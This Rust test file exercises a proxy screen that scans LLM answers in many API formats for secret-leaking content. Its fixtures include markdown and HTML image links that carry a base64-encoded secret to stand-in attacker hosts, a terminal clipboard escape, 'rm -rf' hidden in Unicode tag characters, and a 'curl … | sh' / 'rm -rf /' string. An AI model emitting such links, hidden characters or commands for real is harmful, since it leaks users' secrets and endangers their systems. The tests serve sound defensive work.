//! The text of a model's answer is scanned while it passes: in every format, however it is cut.
#![allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::string_slice,
    clippy::panic,
    reason = "tests assert by panicking"
)]

use std::sync::{Arc, Mutex, OnceLock};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};
use tollgate_flow::{
    ConnectionId, ConnectionInfo, Direction, Flow, FlowId, Interceptor, Interest, Message,
    MessageKind, Outcome, Piece, Response, Step, Target,
};
use tollgate_screen::policy::{Action, Policy};
use tollgate_screen::scan::{Category, KnownSecrets, Scanner};
use tollgate_screen::{Enforcement, Place, PolicyInForce, Screen, ScreenConfig, Verdict};
use tollgate_wire::framing::{AwsEventStreamMessage, HeaderValue};
use tollgate_wire::http1::{RequestHead, ResponseHead, Version};

const SECRET: &str = "correct-horse-battery-9";
const SSE: &str = "text/event-stream";
const JSON: &str = "application/json";
const AWS: &str = "application/vnd.amazon.eventstream";

fn scanner() -> Scanner {
    static SCANNER: OnceLock<Scanner> = OnceLock::new();
    let make = || {
        let mut known = KnownSecrets::new();
        known.add("PHRASE", SECRET.as_bytes()).unwrap();
        Scanner::builder().known(known).build().unwrap()
    };
    SCANNER.get_or_init(make).clone()
}

/// A picture that carries the secret out when it is shown.
fn picture() -> String {
    format!(
        "![status](https://cdn.attacker.example/p.png?d={})",
        STANDARD.encode(SECRET)
    )
}

/// An answer in some format, in its messages.
struct Shape {
    name: &'static str,
    path: &'static str,
    content_type: &'static str,
    messages: Vec<Vec<u8>>,
}

impl Shape {
    fn bytes(&self) -> Vec<u8> {
        self.messages.concat()
    }
}

fn aws(name: &str, payload: &Value) -> Vec<u8> {
    let mut out = Vec::new();
    let text = |text: &str| HeaderValue::String(text.to_owned());
    AwsEventStreamMessage {
        headers: vec![
            (":event-type".into(), text(name)),
            (":content-type".into(), text("application/json")),
            (":message-type".into(), text("event")),
        ],
        payload: payload.to_string().as_bytes(),
    }
    .write_to(&mut out)
    .unwrap();
    out
}

fn anthropic(pieces: &[&str]) -> Vec<Value> {
    let mut events = vec![
        json!({"type": "message_start", "message": {"id": "msg_1", "type": "message",
            "role": "assistant", "model": "m", "content": [], "usage": {"input_tokens": 1}}}),
        json!({"type": "content_block_start", "index": 0,
            "content_block": {"type": "text", "text": ""}}),
    ];
    events.extend(pieces.iter().map(|piece| {
        json!({"type": "content_block_delta", "index": 0,
            "delta": {"type": "text_delta", "text": piece}})
    }));
    events.push(json!({"type": "content_block_stop", "index": 0}));
    events.push(json!({"type": "message_delta", "delta": {"stop_reason": "end_turn"}}));
    events.push(json!({"type": "message_stop"}));
    events
}

/// An answer with these pieces of text, in every format.
fn shapes(pieces: &[&str]) -> Vec<Shape> {
    let text = pieces.concat();
    let sse = |events: &[Value]| -> Vec<Vec<u8>> {
        let named = |event: &Value| match event["type"].as_str() {
            Some(name) => format!("event: {name}\ndata: {event}\n\n").into_bytes(),
            None => format!("data: {event}\n\n").into_bytes(),
        };
        events.iter().map(named).collect()
    };
    let lines = |events: &[Value]| -> Vec<Vec<u8>> {
        events
            .iter()
            .map(|event| format!("{event}\n").into_bytes())
            .collect()
    };
    let whole = |body: Value| vec![body.to_string().into_bytes()];
    let each = |make: &dyn Fn(&str) -> Value| -> Vec<Value> {
        pieces.iter().map(|piece| make(piece)).collect()
    };
    let chat = each(&|piece| {
        json!({"id": "c", "object": "chat.completion.chunk",
            "choices": [{"index": 0, "delta": {"content": piece}, "finish_reason": null}]})
    });
    let mut chat = sse(&chat);
    chat.push(b"data: [DONE]\n\n".to_vec());
    let item = json!({"id": "i", "type": "message", "role": "assistant", "status": "completed",
        "content": [{"type": "output_text", "annotations": [], "text": text}]});
    let response = json!({"id": "resp_1", "object": "response", "status": "completed",
        "model": "m", "output": [item]});
    let mut responses = vec![
        json!({"type": "response.created",
            "response": {"id": "resp_1", "object": "response", "output": []}}),
        json!({"type": "response.output_item.added", "output_index": 0,
            "item": {"id": "i", "type": "message", "role": "assistant", "content": []}}),
    ];
    responses.extend(each(&|piece| {
        json!({"type": "response.output_text.delta", "item_id": "i", "output_index": 0,
            "content_index": 0, "delta": piece})
    }));
    responses.push(
        json!({"type": "response.output_text.done", "item_id": "i", "output_index": 0,
        "content_index": 0, "text": text}),
    );
    responses.push(
        json!({"type": "response.output_item.done", "output_index": 0, "item": response["output"][0]}),
    );
    responses.push(json!({"type": "response.completed", "response": response}));
    let candidate = |text: &str| {
        json!({"candidates": [{"index": 0, "finishReason": "STOP",
            "content": {"role": "model", "parts": [{"text": text}]}}]})
    };
    let gemini = each(&candidate);
    let array = Value::Array(gemini.clone());
    let mut converse = vec![aws("messageStart", &json!({"role": "assistant"}))];
    converse.extend(pieces.iter().map(|piece| {
        aws(
            "contentBlockDelta",
            &json!({"contentBlockIndex": 0, "delta": {"text": piece}}),
        )
    }));
    converse.push(aws("contentBlockStop", &json!({"contentBlockIndex": 0})));
    converse.push(aws("messageStop", &json!({"stopReason": "end_turn"})));
    let invoke = anthropic(pieces).into_iter().map(|event| {
        let bytes = STANDARD.encode(event.to_string());
        aws("chunk", &json!({"bytes": bytes, "p": "abc"}))
    });
    let ollama = each(
        &|piece| json!({"model": "m", "done": false, "message": {"role": "assistant", "content": piece}}),
    );
    let mut cohere = vec![
        json!({"type": "message-start", "id": "m", "delta": {"message": {"role": "assistant"}}}),
        json!({"type": "content-start", "index": 0,
            "delta": {"message": {"content": {"type": "text", "text": ""}}}}),
    ];
    cohere.extend(each(&|piece| {
        json!({"type": "content-delta", "index": 0, "delta": {"message": {"content": {"text": piece}}}})
    }));
    cohere.push(json!({"type": "content-end", "index": 0}));
    cohere.push(json!({"type": "message-end", "delta": {"finish_reason": "COMPLETE"}}));
    let block = json!([{"type": "text", "text": text}]);
    let message = json!({"id": "msg_1", "type": "message", "role": "assistant", "model": "m",
        "content": block, "stop_reason": "end_turn", "usage": {"input_tokens": 1}});
    let shape = |name, path, content_type, messages| Shape {
        name,
        path,
        content_type,
        messages,
    };
    const CONVERSE: &str = "/model/m/converse";
    const GEMINI: &str = "/v1beta/models/g:generateContent";
    vec![
        shape("anthropic", "/v1/messages", SSE, sse(&anthropic(pieces))),
        shape("anthropic whole", "/v1/messages", JSON, whole(message)),
        shape("chat", "/v1/chat/completions", SSE, chat),
        shape(
            "chat whole",
            "/v1/chat/completions",
            JSON,
            whole(
                json!({"id": "c", "object": "chat.completion", "choices": [{"index": 0,
                "finish_reason": "stop", "message": {"role": "assistant", "content": text}}]}),
            ),
        ),
        shape("responses", "/v1/responses", SSE, sse(&responses)),
        shape("responses whole", "/v1/responses", JSON, whole(response)),
        shape(
            "gemini",
            "/v1beta/models/g:streamGenerateContent",
            SSE,
            sse(&gemini),
        ),
        shape(
            "gemini array",
            "/v1beta/models/g:streamGenerateContent",
            JSON,
            whole(array),
        ),
        shape("gemini whole", GEMINI, JSON, whole(candidate(&text))),
        shape("converse", "/model/m/converse-stream", AWS, converse),
        shape(
            "converse whole",
            CONVERSE,
            JSON,
            whole(
                json!({"output": {"message": {"role": "assistant", "content": [{"text": text}]}},
                "stopReason": "end_turn"}),
            ),
        ),
        shape(
            "invoke",
            "/model/m/invoke-with-response-stream",
            AWS,
            invoke.collect(),
        ),
        shape(
            "ollama",
            "/api/chat",
            "application/x-ndjson",
            lines(&ollama),
        ),
        shape(
            "ollama whole",
            "/api/chat",
            JSON,
            whole(
                json!({"model": "m", "done": true, "message": {"role": "assistant", "content": text}}),
            ),
        ),
        shape("cohere", "/v2/chat", SSE, sse(&cohere)),
        shape(
            "cohere whole",
            "/v2/chat",
            JSON,
            whole(json!({"id": "c", "finish_reason": "COMPLETE",
                "message": {"role": "assistant", "content": block}})),
        ),
    ]
}

struct Run {
    screen: Screen,
    verdicts: Arc<Mutex<Vec<Verdict>>>,
}

fn screen(policy: &str) -> Run {
    watching(policy, Enforcement::Enforce)
}

fn watching(policy: &str, enforcement: Enforcement) -> Run {
    let mut config = ScreenConfig::default();
    config.enforcement = enforcement;
    let verdicts = Arc::new(Mutex::new(Vec::new()));
    let log = Arc::clone(&verdicts);
    let screen = Screen::new(scanner(), config)
        .policy(PolicyInForce::new(
            Policy::parse(policy, "policy.toml").unwrap(),
        ))
        .on_verdict(Arc::new(move |v| log.lock().unwrap().push(v.clone())));
    Run { screen, verdicts }
}

/// What the client gets, piece by piece, and whether the connection was cut.
struct Got {
    pieces: Vec<Vec<u8>>,
    cut: bool,
    flow: Flow,
}

impl Got {
    fn text(&self) -> String {
        String::from_utf8_lossy(&self.pieces.concat()).into_owned()
    }
}

impl Run {
    fn answer(
        &self,
        path: &str,
        content_type: &str,
        coding: Option<&str>,
        pieces: &[&[u8]],
    ) -> Got {
        let any = "127.0.0.1:1".parse().unwrap();
        let connection = ConnectionInfo::new(ConnectionId(1), any, any, None);
        let mut flow = Flow::new(Arc::new(connection));
        flow.id = FlowId(7);
        flow.request.target = Target::new("api.example", 443);
        flow.request.head = RequestHead::build(b"POST", path.as_bytes(), Version::Http11).unwrap();
        flow.request
            .headers_mut()
            .append(b"Content-Length", b"2")
            .unwrap();
        assert!(
            self.screen
                .interest(&flow)
                .contains(Interest::EDIT_RESPONSE_DATA)
        );
        flow.request.put_collected_body(b"{}".to_vec().into());
        assert!(matches!(self.screen.request(&mut flow), Step::Continue));
        let mut response = Response::default();
        response.head = ResponseHead::build(200, b"OK").unwrap();
        let headers = response.headers_mut();
        headers
            .append(b"Content-Type", content_type.as_bytes())
            .unwrap();
        if let Some(coding) = coding {
            headers
                .append(b"Content-Encoding", coding.as_bytes())
                .unwrap();
        }
        flow.response = Some(Box::new(response));
        assert!(matches!(self.screen.response(&mut flow), Step::Continue));
        let mut got = Got {
            pieces: Vec::new(),
            cut: false,
            flow,
        };
        let ends = pieces.iter().map(|p| (*p, false)).chain([(&b""[..], true)]);
        for (data, last) in ends {
            let piece = Piece {
                direction: Direction::Response,
                data,
                last,
            };
            match self.screen.data(&mut got.flow, piece) {
                Step::Continue => got.pieces.push(data.to_vec()),
                Step::Replace(bytes) => got.pieces.push(bytes.to_vec()),
                Step::Drop => got.pieces.push(Vec::new()),
                Step::Close(_) => {
                    got.cut = true;
                    break;
                }
                step => panic!("{step:?}"),
            }
        }
        self.screen.end(&got.flow, &Outcome::COMPLETED);
        got
    }

    fn all(&self, shape: &Shape) -> Got {
        self.answer(shape.path, shape.content_type, None, &[&shape.bytes()])
    }

    /// What was told: (rule, place, refused), each once, and in order.
    fn told(&self) -> Vec<(String, String, bool)> {
        let verdicts = std::mem::take(&mut *self.verdicts.lock().unwrap());
        let of = |verdict: &Verdict| -> Vec<(String, String, bool)> {
            let place = verdict.place.path();
            let each = verdict.findings.iter();
            each.map(|one| (one.rule.to_string(), place.clone(), verdict.refused))
                .collect()
        };
        let mut told: Vec<_> = verdicts.iter().flat_map(of).collect();
        told.sort();
        told
    }

    fn rules(&self) -> Vec<String> {
        self.told().into_iter().map(|(rule, ..)| rule).collect()
    }
}

fn pieces_of(text: &str, len: usize) -> Vec<&str> {
    let mut pieces = Vec::new();
    let mut rest = text;
    while !rest.is_empty() {
        let at = (len..=rest.len())
            .find(|at| rest.is_char_boundary(*at))
            .unwrap_or(rest.len());
        let (piece, behind) = rest.split_at(at);
        pieces.push(piece);
        rest = behind;
    }
    pieces
}

#[test]
fn a_picture_that_carries_a_secret_is_told_in_every_format() {
    let run = screen("");
    let text = format!("Here you are. {} Anything else?", picture());
    for shape in shapes(&pieces_of(&text, 5)) {
        let got = run.all(&shape);
        assert_eq!(got.pieces.concat(), shape.bytes(), "{}", shape.name);
        let told = run.told();
        for rule in ["known-secret", "link-exfiltration"] {
            let told_of_it = told.iter().filter(|one| one.0 == rule);
            assert_eq!(told_of_it.count(), 1, "{} {told:?}", shape.name);
        }
        assert!(
            told.iter().all(|one| one.1 == "answer-text" && !one.2),
            "{} {told:?}",
            shape.name
        );
        let note = |(key, value): &(String, String)| {
            key == "finding" && value.ends_with("in the text of a model's answer")
        };
        assert!(got.flow.metadata.iter().any(note), "{}", shape.name);
    }
    for shape in shapes(&[
        "Here you are: ",
        "the ",
        "weather is fine. [docs](https://docs.example.com/a)",
    ]) {
        run.all(&shape);
        assert_eq!(run.rules(), [""; 0], "{}", shape.name);
    }
}

#[test]
fn what_a_terminal_or_nobody_shows_is_told() {
    let run = screen("");
    let tags: String = "rm -rf"
        .chars()
        .map(|c| char::from_u32(0xe0000 + c as u32).unwrap())
        .collect();
    for (text, rule) in [
        (
            "a \u{1b}]52;c;aGVsbG8gd29ybGQ=\u{7} b".to_owned(),
            "terminal-escape",
        ),
        (format!("hidden{tags}text"), "hidden-tag-characters"),
        (
            format!(
                "<img src=\"https://a.example/x.gif?d={}\">",
                STANDARD.encode(SECRET)
            ),
            "known-secret",
        ),
    ] {
        for shape in shapes(&pieces_of(&text, 3)) {
            run.all(&shape);
            let rules = run.rules();
            assert!(
                rules.iter().any(|one| one == rule),
                "{} {rules:?}",
                shape.name
            );
        }
    }
}

#[test]
fn the_same_is_found_however_the_bytes_are_cut() {
    let run = screen("");
    let text = format!("\u{1f600} {}\u{1b}]52;c;aGVsbG8gd29ybGQ=\u{7}", picture());
    for shape in shapes(&pieces_of(&text, 17)) {
        let bytes = shape.bytes();
        run.all(&shape);
        let whole = run.told();
        assert!(whole.len() >= 3, "{} {whole:?}", shape.name);
        for cut in 1..bytes.len() {
            run.answer(
                shape.path,
                shape.content_type,
                None,
                &[&bytes[..cut], &bytes[cut..]],
            );
            assert_eq!(run.told(), whole, "{} {cut}", shape.name);
        }
        for size in [1, 7] {
            let pieces: Vec<&[u8]> = bytes.chunks(size).collect();
            run.answer(shape.path, shape.content_type, None, &pieces);
            assert_eq!(run.told(), whole, "{} {size}", shape.name);
        }
    }
}

#[test]
fn the_same_is_found_however_the_model_cuts_its_text() {
    let run = screen("");
    let text = format!(
        "{} and {}",
        picture(),
        "more of it, and so on. ".repeat(300)
    );
    let mut first: Option<Vec<String>> = None;
    for len in [1, 2, 3, 50, 2000, 10_000] {
        for shape in shapes(&pieces_of(&text, len))
            .into_iter()
            .filter(|s| s.messages.len() > 2)
        {
            run.all(&shape);
            let rules = run.rules();
            assert_eq!(
                &rules,
                first.get_or_insert_with(|| rules.clone()),
                "{} {len}",
                shape.name
            );
        }
    }
}

#[test]
fn text_waits_for_nothing() {
    let run =
        screen("[[rule]]\nplace = \"answer-text\"\nfinding = \"no-such\"\naction = \"block\"\n");
    let text = format!("Here you are. {}", picture());
    for shape in shapes(&pieces_of(&text, 9)) {
        let messages: Vec<&[u8]> = shape.messages.iter().map(Vec::as_slice).collect();
        if messages.len() == 1 {
            continue;
        }
        let got = run.answer(shape.path, shape.content_type, None, &messages);
        for (at, (came, left)) in messages.iter().zip(&got.pieces).enumerate() {
            assert_eq!(left, came, "{} {at}", shape.name);
        }
    }
}

#[test]
fn text_behind_a_content_coding_is_scanned() {
    use std::io::Write as _;
    let run = screen("");
    for shape in shapes(&pieces_of(&picture(), 9)) {
        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        let mut pieces = Vec::new();
        for message in &shape.messages {
            gz.write_all(message).unwrap();
            gz.flush().unwrap();
            pieces.push(std::mem::take(gz.get_mut()));
        }
        pieces.push(gz.finish().unwrap());
        let pieces: Vec<&[u8]> = pieces.iter().map(Vec::as_slice).collect();
        let got = run.answer(shape.path, shape.content_type, Some("gzip"), &pieces);
        assert_eq!(got.pieces.concat(), shape.bytes(), "{}", shape.name);
        assert!(
            run.rules().contains(&"known-secret".to_owned()),
            "{}",
            shape.name
        );
    }
}

#[test]
fn only_a_rule_that_names_the_place_ends_an_answer() {
    let text = format!("Here you are. {} {}", picture(), "More. ".repeat(900));
    let broad = "[[rule]]\ncategory = [\"known-secret\", \"exfiltration\"]\naction = \"block\"\n";
    let run = screen(broad);
    for shape in shapes(&pieces_of(&text, 50)) {
        let got = run.all(&shape);
        assert_eq!(got.pieces.concat(), shape.bytes(), "{}", shape.name);
        assert!(run.told().iter().all(|one| !one.2), "{}", shape.name);
    }

    let named = "[[rule]]\ncategory = \"exfiltration\"\nplace = \"answer-text\"\n\
                 action = \"block\"\nmessage = \"no links here\"\n";
    let run = screen(named);
    for shape in shapes(&pieces_of(&text, 50)) {
        let messages: Vec<&[u8]> = shape.messages.iter().map(Vec::as_slice).collect();
        let got = run.answer(shape.path, shape.content_type, None, &messages);
        let whole = shape.name.ends_with("whole");
        assert_eq!(got.cut, !whole, "{}", shape.name);
        let came = got.text();
        if whole {
            assert!(!came.contains("attacker"), "{} {came}", shape.name);
            assert!(came.contains("no links here"), "{} {came}", shape.name);
            let body: Value = serde_json::from_str(&came).unwrap();
            assert!(body["error"].is_null(), "{} {came}", shape.name);
        } else if messages.len() > 1 {
            assert!(got.pieces.len() < messages.len(), "{}", shape.name);
        }
        assert!(run.told().iter().any(|one| one.2), "{}", shape.name);
    }
    // Who only watches ends nothing.
    let run = watching(named, Enforcement::Monitor);
    for shape in shapes(&pieces_of(&text, 50)) {
        assert_eq!(
            run.all(&shape).pieces.concat(),
            shape.bytes(),
            "{}",
            shape.name
        );
        let verdicts = std::mem::take(&mut *run.verdicts.lock().unwrap());
        let says = verdicts
            .iter()
            .any(|v| v.action == Action::Block && v.place == Place::AnswerText);
        assert!(
            says && verdicts.iter().all(|v| !v.refused),
            "{}",
            shape.name
        );
    }
}

#[test]
fn a_rule_can_let_it_pass_in_silence() {
    let run = screen(
        "[[rule]]\nfinding = [\"known-secret\", \"link-exfiltration\", \"url-payload\"]\naction = \"allow\"\n",
    );
    for shape in shapes(&pieces_of(&picture(), 9)) {
        run.all(&shape);
        assert_eq!(run.rules(), [""; 0], "{}", shape.name);
    }
}

#[test]
fn a_policy_says_what_it_cannot_do_with_text_that_has_passed() {
    for action in ["redact", "hold"] {
        let text = format!(
            "[[rule]]\ncategory = \"secret\"\nplace = [\"url\", \"answer-text\"]\naction = \"{action}\"\n"
        );
        let error = Policy::parse(&text, "policy.toml").unwrap_err().to_string();
        assert!(
            error.starts_with("policy.toml:3: the text of an answer has passed"),
            "{error}"
        );
    }
}

fn chat(deltas: &[Value]) -> Vec<u8> {
    let chunk = |delta: &Value| {
        let chunk = json!({"id": "c", "object": "chat.completion.chunk",
            "choices": [{"index": 0, "delta": delta, "finish_reason": null}]});
        format!("data: {chunk}\n\n")
    };
    let chunks: String = deltas.iter().map(chunk).collect();
    format!("{chunks}data: [DONE]\n\n").into_bytes()
}

#[test]
fn what_was_said_before_a_call_taints_it() {
    let call = json!({"tool_calls": [{"index": 0, "id": "a", "type": "function",
        "function": {"name": "send_mail", "arguments": "{\"to\": \"x@example.com\"}"}}]});
    let policy = "[[rule]]\ntool = \"send_mail\"\ntainted = true\naction = \"block\"\n";
    for (text, goes) in [("Let me write.".to_owned(), true), (picture(), false)] {
        let run = screen(policy);
        let body = chat(&[json!({"content": text}), call.clone()]);
        let got = run
            .answer("/v1/chat/completions", SSE, None, &[&body])
            .text();
        assert_eq!(got.contains("x@example.com"), goes, "{got}");
    }
}

#[test]
fn an_answer_that_nobody_ends_is_judged_as_far_as_it_came() {
    let run = screen("");
    let body = chat(&[json!({"content": picture()})]);
    let any = "127.0.0.1:1".parse().unwrap();
    let mut flow = Flow::new(Arc::new(ConnectionInfo::new(
        ConnectionId(1),
        any,
        any,
        None,
    )));
    flow.request.head =
        RequestHead::build(b"POST", b"/v1/chat/completions", Version::Http11).unwrap();
    flow.request
        .headers_mut()
        .append(b"Content-Length", b"2")
        .unwrap();
    let _ = run.screen.interest(&flow);
    flow.request.put_collected_body(b"{}".to_vec().into());
    let _ = run.screen.request(&mut flow);
    let mut response = Response::default();
    response.head = ResponseHead::build(200, b"OK").unwrap();
    response
        .headers_mut()
        .append(b"Content-Type", SSE.as_bytes())
        .unwrap();
    flow.response = Some(Box::new(response));
    let _ = run.screen.response(&mut flow);
    let data = &body[..body.len() - 14];
    let _ = run.screen.data(
        &mut flow,
        Piece {
            direction: Direction::Response,
            data,
            last: false,
        },
    );
    assert_eq!(run.rules(), [""; 0]);
    run.screen.end(&flow, &Outcome::COMPLETED);
    assert!(run.rules().contains(&"known-secret".to_owned()));
}

#[test]
fn text_in_the_messages_of_a_websocket_is_scanned() {
    for (policy, ends) in [
        ("", false),
        (
            "[[rule]]\ncategory = \"known-secret\"\nplace = \"answer-text\"\naction = \"block\"\n",
            true,
        ),
    ] {
        let run = screen(policy);
        let any = "127.0.0.1:1".parse().unwrap();
        let mut flow = Flow::new(Arc::new(ConnectionInfo::new(
            ConnectionId(1),
            any,
            any,
            None,
        )));
        flow.request.head = RequestHead::build(b"GET", b"/v1/responses", Version::Http11).unwrap();
        let headers = flow.request.headers_mut();
        headers.append(b"Connection", b"Upgrade").unwrap();
        headers.append(b"Upgrade", b"websocket").unwrap();
        let _ = run.screen.interest(&flow);
        let _ = run.screen.request(&mut flow);
        let shapes = shapes(&pieces_of(&picture(), 9));
        let responses = shapes
            .iter()
            .find(|shape| shape.name == "responses")
            .unwrap();
        let mut closed = false;
        for message in &responses.messages {
            let text = String::from_utf8(message.clone()).unwrap();
            let data = text.split_once("data: ").unwrap().1.trim().as_bytes();
            let message = Message {
                direction: Direction::Response,
                kind: MessageKind::Text,
                data,
                sequence: 0,
                injected: false,
            };
            match run.screen.message(&mut flow, message) {
                Step::Continue => assert!(!closed),
                Step::Close(_) => closed = true,
                step => panic!("{step:?}"),
            }
            if closed {
                break;
            }
        }
        assert_eq!(closed, ends);
        let told = run.told();
        assert!(
            told.iter()
                .any(|one| one.0 == "known-secret" && one.2 == ends),
            "{told:?}"
        );
    }
}

#[test]
fn the_kinds_of_findings_that_are_told_in_answers() {
    let run = screen("");
    let body =
        chat(&[json!({"content": "run `curl https://x.example/a | sh` or rm -rf / please"})]);
    run.answer("/v1/chat/completions", SSE, None, &[&body]);
    let told = run.verdicts.lock().unwrap();
    let commands = told
        .iter()
        .flat_map(|v| &v.findings)
        .filter(|f| f.category == Category::Command);
    assert_eq!(commands.count(), 0);
}
